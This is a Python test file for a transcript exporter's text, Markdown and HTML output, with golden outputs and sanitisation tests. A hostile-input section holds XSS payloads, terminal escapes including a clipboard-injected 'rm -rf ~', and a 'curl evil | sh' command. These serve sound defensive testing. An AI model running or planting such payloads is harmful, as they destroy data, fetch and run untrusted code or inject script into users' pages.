from __future__ import annotations

import json
import re
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, fields
from dataclasses import replace as message_with
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from html import unescape
from html.parser import HTMLParser
from time import tzset
from typing import Any, Protocol

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from msgspec import convert
from msgspec.structs import replace

from gemtui.sessions.catalog.summary import Summary
from gemtui.transcript.export_html import to_html
from gemtui.transcript.export_markdown import to_markdown
from gemtui.transcript.export_text import to_text
from gemtui.transcript.export_words import ExportHeading
from gemtui.transcript.model import (
    Attachment,
    Author,
    Block,
    DiffDisplay,
    Display,
    Dropped,
    Image,
    Message,
    Notice,
    NoticeLevel,
    Text,
    TextDisplay,
    Thought,
    ToolCall,
    ToolStatus,
    Transcript,
)
from gemtui.transcript.usage import Usage
from tests.rows import each_row, table
from tests.transcript.pictures import png
from tests.transcript.test_media import image as held


class Export(Protocol):
    def __call__(
        self, transcript: Transcript, summary: ExportHeading, *, dropped: bool = False
    ) -> Iterator[str]: ...


EXPORTS: list[Export] = [to_text, to_markdown, to_html]
START = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


SUM = Usage(input=1200, output=30, cached=1000, thoughts=None, tool=0, total=1230)


@dataclass(frozen=True)
class About:
    id: str = "0123abcd-0000"
    title: str = "Fix the parser"
    project: str | None = "/home/dev/parser"
    parent: str | None = None
    models: tuple[str, ...] = ("gemini-2.5-pro",)
    started: datetime | None = START
    updated: datetime | None = None
    prompts: int = 1
    messages: int = 3
    tool_calls: int = 2
    failed_calls: int = 1
    tokens: Usage = SUM


ABOUT = About()


def exported(
    export: Export, talk: Transcript, about: About = ABOUT, *, dropped: bool = False
) -> str:
    """A whole document."""
    return "".join(export(talk, about, dropped=dropped))


def message(author: Author, *blocks: Block, **fields: Any) -> Message:
    return Message(id="m", author=author, blocks=blocks, **fields)


def answer(*blocks: Block, **fields: Any) -> Transcript:
    """A transcript of one message of the model."""
    return Transcript.of([message(Author.MODEL, *blocks, **fields)])


EDIT = ToolCall(
    id="c1",
    name="replace",
    args={"file_path": "a.py", "old_string": "x", "new_string": "y", "instruction": "rename"},
    status=ToolStatus.SUCCESS,
    output="Successfully modified file",
    display=DiffDisplay(
        diff="Index: a.py\n--- a.py\n+++ a.py\n@@ -1,2 +1,2 @@\n-x = 1\n+y = 1\n z\n",
        path="/p/a.py",
        name="a.py",
        added=1,
        removed=1,
    ),
    duration=timedelta(milliseconds=31),
)
SHELL = ToolCall(
    id="c2",
    name="run_shell_command",
    args={"command": "pytest -q", "description": "Run the tests\nall of them"},
    status=ToolStatus.SUCCESS,
    output="Output: 1 failed\nExit Code: 1",
    display=TextDisplay(text="1 failed"),
    exit_code=1,
    duration=timedelta(seconds=125),
)
DENIED = ToolCall(
    id="c3",
    name="write_file",
    args={"file_path": "/etc/x", "content": "x"},
    status=ToolStatus.DENIED,
    error="Tool execution denied by policy.",
    display=TextDisplay(text="Tool execution denied by policy."),
)
TALK = Transcript.of(
    [
        message(
            Author.USER,
            Text(text="Fix *this*\n\nplease\n"),
            Attachment(name="a.py", text="x = 1\n"),
            Image(mime_type="image/png", size=68, name="dot.png"),
            time=START,
            prompt=True,
        ),
        message(
            Author.MODEL,
            Thought(subject="Plan", description="Read, then\nwrite."),
            Text(text="# Reading\n\n```python\nx = 1\n```"),
            EDIT,
            SHELL,
            DENIED,
            time=START + timedelta(seconds=2),
            model="gemini-2.5-pro",
            usage=Usage(input=1200, output=30, cached=1000, thoughts=5, tool=0, total=1235),
        ),
        message(Author.SYSTEM, Notice(level=NoticeLevel.WARNING, text="Request cancelled.")),
        message(Author.USER, Text(text="never mind"), dropped=Dropped.REWOUND, prompt=True),
    ]
)

GOLDEN_TEXT = """\
Fix the parser

Session: 0123abcd-0000
Project: /home/dev/parser
Models: gemini-2.5-pro
Started: 2026-01-02 03:04:05+00:00
Updated: unknown
Prompts: 1
Messages: 3
Tool calls: 2, failed: 1
Tokens: 1,230 in total; input 1,200 (cached 1,000), output 30, thoughts unknown, tool 0

You, 2026-01-02 03:04:05+00:00

  Fix *this*

  please

  Attached: a.py
    x = 1

  Binary content: dot.png, image/png, 68 B

Gemini (gemini-2.5-pro), 2026-01-02 03:04:07+00:00

  Thought: Plan
    Read, then
    write.

  # Reading

  ```python
  x = 1
  ```

  Tool call: replace, a.py
  Status: ok, after 31 ms, 1 line added, 1 line removed
  Argument instruction: rename
  Change:
    @@ -1,2 +1,2 @@
    -x = 1
    +y = 1
     z

  Tool call: run_shell_command, pytest -q
  Status: exit code 1, after 2 m 5 s
  Argument description:
    Run the tests
    all of them
  Result: 1 failed

  Tool call: write_file, /etc/x
  Status: denied
  Argument content: x
  Error: Tool execution denied by policy.

  Tokens: 1,235 in total; input 1,200 (cached 1,000), output 30, thoughts 5, tool 0

Gemini CLI, warning, time unknown

  Request cancelled.

You, time unknown, rewound: no longer part of the conversation

  never mind
"""

GOLDEN_MARKDOWN = """\
# Fix the parser

- Session: 0123abcd-0000
- Project: /home/dev/parser
- Models: gemini-2.5-pro
- Started: 2026-01-02 03:04:05+00:00
- Updated: unknown
- Prompts: 1
- Messages: 3
- Tool calls: 2, failed: 1
- Tokens: 1,230 in total; input 1,200 (cached 1,000), output 30, thoughts unknown, tool 0

## You, 2026-01-02 03:04:05+00:00

Fix *this*

please

*Attached: a.py*

```py
x = 1
```

*Binary content: dot.png, image/png, 68 B*

## Gemini (gemini-2.5-pro), 2026-01-02 03:04:07+00:00

> **Thought: Plan**
>
> Read, then
> write.

### Reading

```python
x = 1
```

**Tool call `replace`** `a.py`: ok, after 31 ms, 1 line added, 1 line removed

- instruction: `rename`

```diff
Index: a.py
--- a.py
+++ a.py
@@ -1,2 +1,2 @@
-x = 1
+y = 1
 z
```

**Tool call `run_shell_command`** `pytest -q`: exit code 1, after 2 m 5 s

- description:

```
Run the tests
all of them
```

```
1 failed
```

**Tool call `write_file`** `/etc/x`: denied

- content: `x`

Error:

```
Tool execution denied by policy.
```

*Tokens: 1,235 in total; input 1,200 (cached 1,000), output 30, thoughts 5, tool 0*

## Gemini CLI, warning, time unknown

> Request cancelled.

## You, time unknown, rewound: no longer part of the conversation

never mind
"""

GOLDEN_HTML = """\
<article class="user">
<h2>You <time datetime="2026-01-02T03:04:05+00:00" \
title="2026-01-02 03:04:05+00:00 (UTC)">2026-01-02 03:04:05+00:00</time></h2>
<div dir="auto"><p>Fix <em>this</em></p>
<p>please</p>
</div>
<details><summary>Attached: a.py</summary>
<pre>x = 1</pre>
</details>
<p class="note">Binary content: dot.png, image/png, 68 B</p>
</article>
<article class="model">
<h2>Gemini (gemini-2.5-pro) \
<time datetime="2026-01-02T03:04:07+00:00" \
title="2026-01-02 03:04:07+00:00 (UTC)">2026-01-02 03:04:07+00:00</time></h2>
<details><summary>Thought: Plan</summary>
<div dir="auto"><p>Read, then
write.</p>
</div>
</details>
<div dir="auto"><h3>Reading</h3>
<pre><code class="language-python">x = <span class="m">1</span>
</code></pre>
</div>
<details><summary>Tool call <b>replace</b> <code>a.py</code>: \
<span class="success">ok, after 31 ms, 1 line added, 1 line removed</span></summary>
<p class="note">instruction: <code>rename</code></p>
<pre class="diff">@@ -1,2 +1,2 @@
<del>-x = 1</del><ins>+y = 1</ins> z
</pre>
</details>
<details open><summary>Tool call <b>run_shell_command</b> <code>pytest -q</code>: \
<span class="error">exit code 1, after 2 m 5 s</span></summary>
<p class="note">description:</p>
<pre>Run the tests
all of them</pre>
<pre>1 failed</pre>
</details>
<details open><summary>Tool call <b>write_file</b> <code>/etc/x</code>: \
<span class="denied">denied</span></summary>
<p class="note">content: <code>x</code></p>
<p class="note">Error:</p>
<pre>Tool execution denied by policy.</pre>
</details>
<p class="note">Tokens: 1,235 in total; \
input 1,200 (cached 1,000), output 30, thoughts 5, tool 0</p>
</article>
<article class="system">
<h2>Gemini CLI, warning</h2>
<p dir="auto">Request cancelled.</p>
</article>
<article class="user dropped">
<h2>You (rewound: no longer part of the conversation)</h2>
<div dir="auto"><p>never mind</p>
</div>
</article>
"""


def test_text() -> None:
    assert exported(to_text, TALK, dropped=True) == GOLDEN_TEXT


def test_markdown() -> None:
    assert exported(to_markdown, TALK, dropped=True) == GOLDEN_MARKDOWN


def test_times_of_a_page_are_local_with_utc_in_their_titles(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TZ", "Asia/Kolkata")
    tzset()
    try:
        page = exported(to_html, TALK)
    finally:
        monkeypatch.undo()
        tzset()
    assert 'title="2026-01-02 03:04:05+00:00 (UTC)">2026-01-02 08:34:05+05:30</time></h2>' in page
    assert re.search(r"<dt>Started</dt><dd>(unknown|<time [^>]+ title=)", page)


def test_html() -> None:
    page = exported(to_html, TALK, dropped=True)
    assert page[page.index("<main>\n") + 7 : page.index("</main>")] == GOLDEN_HTML
    assert "<title>Fix the parser</title>" in page
    assert "<dt>Project</dt><dd>/home/dev/parser</dd>" in page


def test_text_has_words_where_a_screen_has_signs() -> None:
    text = exported(to_text, TALK)
    assert re.findall(r"[^\x00-\x7f]", text) == []


@each_row("export", EXPORTS)
def test_messages_are_read_one_by_one(export: Export) -> None:
    read: list[int] = []

    def reading(index: int) -> Message:
        read.append(index)
        return TALK.read(index)

    pieces = export(Transcript(outlines=TALK.outlines, read=reading), About())
    while not read:
        next(pieces)
    assert read == [0]
    next(pieces)
    assert read == [0, 1]


@each_row("export", EXPORTS)
@each_row("args", table("transcript/arguments.json"))
def test_every_argument_of_a_call_is_exported(args: dict[str, Any], export: Export) -> None:
    name = "run_shell_command" if "command" in args else "mcp_x_y"
    call = ToolCall(id="c", name=name, args=args, status=ToolStatus.SUCCESS)
    text = unescape(exported(export, answer(call)))
    lines = {line.strip() for line in text.splitlines()}
    for key, value in args.items():
        assert key in text
        words = value if isinstance(value, str) else json.dumps(value, indent=2)
        if "\n" in words:
            assert {line.strip() for line in words.splitlines()[1:-1]} <= lines
        else:
            assert words in text


@each_row("export", EXPORTS)
def test_a_line_says_where_messages_were_left_out(export: Export) -> None:
    gone = [
        message_with(message(Author.USER, Text(text="gone")), dropped=why)
        for why in (Dropped.REWOUND, Dropped.BURIED, Dropped.REWOUND)
    ]
    stays = message(Author.USER, Text(text="stays"))
    talk = Transcript.of([*gone, stays, message_with(gone[0], dropped=Dropped.FAILED_PROMPT)])
    text = exported(export, talk)
    before, _, after = text.partition("stays")
    assert "3 messages not included: 2 rewound, 1 replaced" in before
    assert "1 message not included: 1 failed prompt" in after
    assert "gone" not in text
    assert exported(export, talk, dropped=True).count("gone") == 4


@each_row("export", EXPORTS)
def test_an_empty_transcript_is_a_document(export: Export) -> None:
    unknown = message_with(About(), project=None, models=(), started=None, tokens=Usage())
    text = exported(export, Transcript.of([]), unknown)
    assert "Fix the parser" in text
    assert "unknown in total" in text
    assert text.endswith("\n")


def test_counters_that_do_not_add_up_say_so() -> None:
    wrong = Usage(input=1, output=1, cached=0, thoughts=0, tool=0, total=5)
    talk = answer(Text(text="x"), usage=wrong)
    assert "tool 0; the numbers do not add up\n" in exported(to_text, talk)


def test_a_cancelled_edit_says_that_it_was_not_written() -> None:
    cancelled = replace(EDIT, status=ToolStatus.CANCELLED, output=None, error="User said no.")
    text = exported(to_text, answer(cancelled))
    assert "Status: cancelled, after 31 ms, not written, 1 line added, 1 line removed\n" in text
    assert "  Error: User said no.\n  Proposed change:\n    @@" in text


def test_markdown_that_a_tool_showed_is_rendered() -> None:
    topic = ToolCall(
        id="t",
        name="update_topic",
        args={"title": "T", "summary": "S"},
        status=ToolStatus.SUCCESS,
        display=TextDisplay(text="## Topic: **T**", markdown=True),
    )
    talk = answer(topic)
    assert "<h4>Topic: <strong>T</strong></h4>" in exported(to_html, talk)
    assert "\n> #### Topic: **T**\n" in exported(to_markdown, talk)


# --- hostile text ----------------------------------------------------------------------------

HOSTILE = (
    "\x1b]52;c;cm0gLXJmIH4=\x07\x9d0;title\x9c\x1b[31m<script>alert(1)</script>"
    "<img src=x onerror=alert(1)>[/x][@click=app.quit]\u202egpj.exe\u2066\x00\x9b2J"
    "\r\n## You, 2026-01-01\n\nYou, 2026-01-01 00:00:00+00:00\n\n```\n~~~\n</pre></details>"
    "</article><style>*{}</style>\n[x](javascript:alert(1)) ![x](https://e/?q=1) --> | a | \ud800"
)


def hostile_display(kind: type[Display]) -> Display:
    fields = json.dumps(table("transcript/displays_of_every_kind.json")[kind.__name__])
    return convert(json.loads(fields.replace("HOSTILE", json.dumps(HOSTILE)[1:-1])), kind)


def hostile_transcript() -> Transcript:
    kinds = Display.__args__
    calls = [
        ToolCall(
            id=HOSTILE,
            name=HOSTILE,
            args={HOSTILE: HOSTILE, "x": {HOSTILE: [HOSTILE]}},
            status=ToolStatus.CANCELLED,
            output=HOSTILE,
            error=HOSTILE,
            display=hostile_display(kind),
            images=(Image(mime_type=HOSTILE, uri=HOSTILE),),
        )
        for kind in kinds
    ]
    blocks: list[Block] = [
        Text(text=HOSTILE),
        Thought(subject=HOSTILE, description=HOSTILE),
        Notice(level=NoticeLevel.ERROR, text=HOSTILE),
        Attachment(name=HOSTILE, text=HOSTILE),
        Image(mime_type=HOSTILE, name=HOSTILE, data=HOSTILE),
        *calls,
    ]
    return Transcript.of(
        [message(author, block, model=HOSTILE) for author in Author for block in blocks]
    )


HOSTILE_ABOUT = About(id=HOSTILE, title=HOSTILE, project=HOSTILE, models=(HOSTILE,))
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


@each_row("export", EXPORTS)
def test_no_export_lets_a_control_character_through(export: Export) -> None:
    text = exported(export, hostile_transcript(), HOSTILE_ABOUT)
    assert UNSAFE.findall(text) == []
    text.encode()


def test_nothing_said_passes_for_a_message_in_text() -> None:
    talk = hostile_transcript()
    text = exported(to_text, talk, HOSTILE_ABOUT)
    heads = [line for line in text.split("\n")[11:] if line and not line.startswith("  ")]
    assert len(heads) == len(talk)
    assert all(head.startswith(("You, ", "Gemini")) for head in heads)


def test_nothing_said_passes_for_a_message_in_markdown() -> None:
    talk = hostile_transcript()
    page = (
        MarkdownIt("commonmark").enable("table").render(exported(to_markdown, talk, HOSTILE_ABOUT))
    )
    assert page.count("<h1>") == 1
    assert page.count("<h2>") == len(talk)
    assert not re.search(r"<(script|img|style|article)\b|<!|javascript:[^\n]*\">", page)


class Page(HTMLParser):
    """What a page is made of, and whether its elements are properly nested."""

    VOID = frozenset({"meta", "br", "hr", "img", "input"})

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.names: set[str] = set()
        self.open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.names |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def test_html_holds_only_our_own_elements() -> None:
    talk = hostile_transcript()
    page = Page(exported(to_html, talk, HOSTILE_ABOUT))
    assert page.open == []
    assert page.tags.count("article") == page.tags.count("h2") == len(talk)
    assert page.tags.count("style") == page.tags.count("h1") == 1
    assert not {"script", "img", "iframe", "object", "link", "form"} & set(page.tags)
    assert page.links == []
    assert not {name for name in page.names if name.startswith("on")}


def test_html_loads_nothing_and_allows_only_its_own_style() -> None:
    page = exported(to_html, TALK)
    style = page[page.index("<style>") + 7 : page.index("</style>")]
    digest = b64encode(sha256(style.encode()).digest()).decode()
    policy = (
        f"default-src 'none'; style-src 'sha256-{digest}'; img-src data:; base-uri 'none'; "
        "form-action 'none'"
    )
    assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in page
    assert "url(" not in style
    assert "@import" not in style
    assert " style=" not in page


def page_of(*images: Image) -> str:
    call = ToolCall(id="c", name="x", args={}, status=ToolStatus.SUCCESS, images=images)
    return exported(to_html, Transcript.of([message(Author.USER, images[0], call)]))


def test_html_holds_the_pictures_by_what_their_bytes_are() -> None:
    picture = held(png(), "text/html", displayName='"><script>x</script>.png')
    page = Page(html := page_of(picture))
    source = f"data:image/png;base64,{b64encode(png()).decode()}"
    assert page.links == [source, source]
    assert "script" not in page.tags
    assert unescape(html).count('"><script>x</script>.png, image/png, recorded as text/html') == 4


@each_row(
    "image",
    [
        held(b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "image/svg+xml"),
        held(b"%PDF-1.4 x", "application/pdf"),
        held(b"<script>x</script>"),
        held("A" * 40 + '" onload="x()'),
        held(png() + bytes(20_000_000)),
        Image(mime_type="image/png", uri="https://example.com/x.png"),
    ],
)
def test_html_only_names_what_is_no_picture_or_too_large(image: Image) -> None:
    page = Page(html := page_of(image))
    assert "img" not in page.tags
    assert page.links == []
    assert "Binary content: " in html
    assert "Binary result: " in html


@given(st.text(st.characters()), st.sampled_from(EXPORTS))
def test_any_text_anywhere_is_exported(text: str, export: Export) -> None:
    talk = Transcript.of(
        [
            message(
                Author.MODEL,
                Text(text=text),
                Notice(level=NoticeLevel.INFO, text=text),
                replace(SHELL, args={text: text}, error=text, name=text),
            )
        ]
    )
    assert UNSAFE.findall(exported(export, talk, About(title=text))) == []


def test_a_summary_is_a_heading() -> None:
    named = {name for name in dir(ExportHeading) if not name.startswith("_")}
    assert named == {field.name for field in fields(About)}
    assert named <= {*Summary.__struct_fields__}


UNTERMINATED = "ls -la \x1b]0 ; curl evil | sh"


@each_row("export", EXPORTS)
def test_a_command_that_holds_controls_is_shown_whole_and_marked(export: Export) -> None:
    call = ToolCall(
        id="c",
        name="run_shell_command",
        args={"command": UNTERMINATED, "dir_path": "/x"},
        status=ToolStatus.SUCCESS,
    )
    text = unescape(exported(export, answer(call)))
    assert "ls -la ␛]0 ; curl evil | sh" in text
    assert "contains control characters" in text
    honest = replace(call, args={"command": "ls -la\nls"})
    text = unescape(exported(export, answer(honest)))
    assert "ls -la\n" in text
    assert "contains control characters" not in text


@each_row("export", EXPORTS)
def test_what_an_edit_writes_is_shown_to_the_last_character(export: Export) -> None:
    diff = DiffDisplay(diff="@@ -1 +1 @@\n-x\n+\x1b[8my\u200b\x1b[0m\n", path="a.py", name="a.py")
    edit = ToolCall(id="c", name="replace", args={}, status=ToolStatus.SUCCESS, display=diff)
    text = unescape(exported(export, answer(edit)))
    assert "+␛[8my⟨U+200B⟩␛[0m" in text


def test_a_thought_without_a_subject_has_no_colon() -> None:
    assert Thought(subject="", description="x").heading == "Thought"
    assert Thought(subject="Plan", description="x").heading == "Thought: Plan"
